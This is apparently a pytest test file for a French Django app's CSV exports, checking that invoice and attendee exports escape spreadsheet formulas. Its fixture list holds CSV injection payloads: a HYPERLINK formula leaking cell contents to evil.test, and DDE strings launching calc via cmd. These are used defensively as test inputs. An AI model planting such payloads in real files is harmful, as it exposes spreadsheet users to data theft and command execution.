"""The one CSV writer (plato/csv.py) and every CSV view of the app.

CSV_VIEWS lists every URL that answers a CSV file, each with a builder that fills every
text column with hostile values; tests/plato/test_files.py walks every URL as every
role and fails on a CSV answer from a URL missing here. The source check at the end
refuses the standard library's CSV writer outside plato/csv.py.
"""

import ast
import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

from billing import services as billing_services
from plato.csv import cell, csv_response, csv_text, safe_cell
from plenaries import services as plenary_services
from tests import factories

ROOT = Path(__file__).resolve().parents[2]

# Payloads that Excel or LibreOffice would run: each starts with one of the formula signs.
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez ici")'
HOSTILE = [
    HYPERLINK,
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]
# A cell a spreadsheet may read as a number or a date: ours (amounts, dates, times).
NUMBER_OR_DATE = re.compile(r"^-?\d+(,\d+)?$|^\d\d/\d\d/\d{4}( \d\d:\d\d)?$")


def rows_of(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    assert "\r\n" in text and "\n" not in text.replace("\r\n", ""), "CRLF line ends only"
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


# --- The writer -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Anne-Marie", "Anne-Marie"),
        (" =1", " =1"),  # a leading space already makes it text
        ("", ""),
    ],
)
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe


def test_cells_neutralise_text_and_keep_numbers_and_dates_usable(settings):
    settings.TIME_ZONE = "Europe/Paris"
    moment = datetime.datetime(2026, 12, 31, 23, 30, tzinfo=datetime.UTC)

    assert cell(Decimal("-12.50")) == "-12,50"  # a credit note stays a number
    assert cell("-12,50") == "'-12,50"  # the same as text is text
    assert cell(-3) == "-3"
    assert cell(datetime.date(2026, 2, 1)) == "01/02/2026"
    assert cell(moment) == "01/01/2027 00:30"  # in local time
    assert cell(None) == ""
    with pytest.raises(TypeError):
        cell(True)
    with pytest.raises(TypeError):
        cell(1.5)  # a float would carry binary noise into an accountant's column


def test_csv_text_is_french_excel_and_quotes_what_needs_it():
    text = csv_text(["Nom", "Montant"], [["Dupont; fils", Decimal("1900.00")], ['Le "Port"\nVannes', 2]])

    assert text == '\ufeffNom;Montant\r\n"Dupont; fils";1900,00\r\n"Le ""Port""\nVannes";2\r\n'


def test_csv_response_is_a_private_download_with_an_accented_name():
    response = csv_response(["Nom"], [["=1"]], filename="inscrits-plénière.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"].startswith(
        "attachment; filename*=utf-8''inscrits-pl%C3%A9ni%C3%A8re"
    )
    assert rows_of(response) == [["Nom"], ["'=1"]]


# --- Every CSV view, with hostile data in every text column ----------------------------------------


def hostile_invoices(request):
    """Credit note and invoice, with a buyer named by a formula and an invoice prefix that
    starts with one (the coordinator types it in the chapter's settings)."""
    chapter = request.getfixturevalue("invoicing_chapter")
    coordinator = request.getfixturevalue("coordinator")
    cohort = request.getfixturevalue("cohort")
    chapter.invoice_prefix = "@P56"
    chapter.save()
    memberships = [
        factories.MembershipFactory(cohort=cohort, company__name=name, company__town="Vannes")
        for name in HOSTILE
    ]
    for membership in memberships:
        company = membership.company
        company.address = "4 rue du Port"
        company.postcode = "56000"
        company.save()
    today = datetime.date(2026, 11, 27)
    invoices = [billing_services.issue_invoice(m, actor=coordinator, today=today) for m in memberships]
    billing_services.issue_credit_note(invoices[0], reason="=Départ", actor=coordinator, today=today)
    url = reverse("billing:invoice_export", kwargs={"code": chapter.code})
    return coordinator, url, [*HOSTILE, invoices[0].number]


def hostile_registrations(request):
    """Everyone registered to a plenary with hostile names, e-mail, company, cohort and guest."""
    chapter = request.getfixturevalue("chapter")
    coordinator = request.getfixturevalue("coordinator")
    cohort = factories.CohortFactory(chapter=chapter, name="=Cohorte", state="active")
    plenary = factories.PlenaryFactory(chapter=chapter, capacity=100, plus_one_allowed=True)
    for number, payload in enumerate(HOSTILE):
        person = factories.MembershipFactory(
            cohort=cohort,
            person__first_name=payload,
            person__last_name=payload,
            person__email=f"-{number}@evil.test",
            company__name=payload,
        ).person
        plenary_services.register(plenary, person, actor=person, plus_one=True, plus_one_name=payload)
    url = reverse("plenaries:attendees_csv", kwargs={"pk": plenary.pk})
    return coordinator, url, [*HOSTILE, "=Cohorte", "-0@evil.test"]


# Every URL that answers a CSV file: a new one fails tests/plato/test_files.py until it is here.
CSV_VIEWS = {
    "billing:invoice_export": hostile_invoices,
    "plenaries:attendees_csv": hostile_registrations,
}


@pytest.mark.parametrize("key", sorted(CSV_VIEWS))
def test_csv_view_never_lets_a_cell_run_as_a_formula(key, db, request, login):
    user, url, payloads = CSV_VIEWS[key](request)

    response = login(user).get(url)

    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = rows_of(response)
    cells = [value for row in rows[1:] for value in row]
    for value in cells:
        if value.startswith(("'", "-")) and NUMBER_OR_DATE.match(value):
            continue  # an amount of a credit note: a number, kept usable
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (key, value)
    for payload in payloads:  # each hostile value reached the file, neutralised
        assert any(value.startswith(f"'{payload}") for value in cells), (key, payload)


def test_invoice_export_amounts_stay_numbers_for_the_accountant(db, request, login):
    user, url, _payloads = hostile_invoices(request)

    _header, *rows = rows_of(login(user).get(url))

    credit = next(row for row in rows if row[1] == "Avoir")
    assert credit[5:8] == ["-1900,00", "-380,00", "-2280,00"]
    assert all(NUMBER_OR_DATE.match(value) for row in rows for value in row[5:9])


# --- Nothing else writes CSV ---------------------------------------------------------------------

# Scripts that rebuild the repository's own data files (members/data, groups/data): they
# run outside Django, in a throw-away virtualenv, and write no file for a user.
DATA_BUILDERS = {"members/data/build_naf.py", "groups/data/build_postcodes.py"}
WRITERS = {"writer", "DictWriter"}


def _csv_writer_uses(tree: ast.AST) -> list[int]:
    """Lines that reach the csv module's writers, whatever the import's spelling."""
    aliases = {
        alias.asname or alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
        if alias.name == "csv"
    }
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            lines += [node.lineno for alias in node.names if alias.name in WRITERS | {"*"}]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
        ):
            lines.append(node.lineno)
    return lines


def test_nothing_outside_plato_csv_writes_csv():
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if relative.startswith((".", "tests/")) or "/." in relative or relative in DATA_BUILDERS:
            continue
        if relative == "plato/csv.py":
            continue
        lines = _csv_writer_uses(ast.parse(path.read_text(encoding="utf-8")))
        offenders += [f"{relative}:{line}" for line in lines]

    assert not offenders, f"write CSV through plato/csv.py (csv_response, csv_text): {offenders}"


def test_the_source_check_finds_each_spelling():
    samples = [
        "import csv\ncsv.writer(out)",
        "import csv as c\nc.DictWriter(out, [])",
        "from csv import writer",
        "from csv import *",
    ]
    assert all(_csv_writer_uses(ast.parse(source)) for source in samples)
    assert not _csv_writer_uses(ast.parse("import csv\ncsv.reader(data)"))

    # and it is not blind to the one module allowed to use them
    assert _csv_writer_uses(ast.parse((ROOT / "plato/csv.py").read_text(encoding="utf-8")))
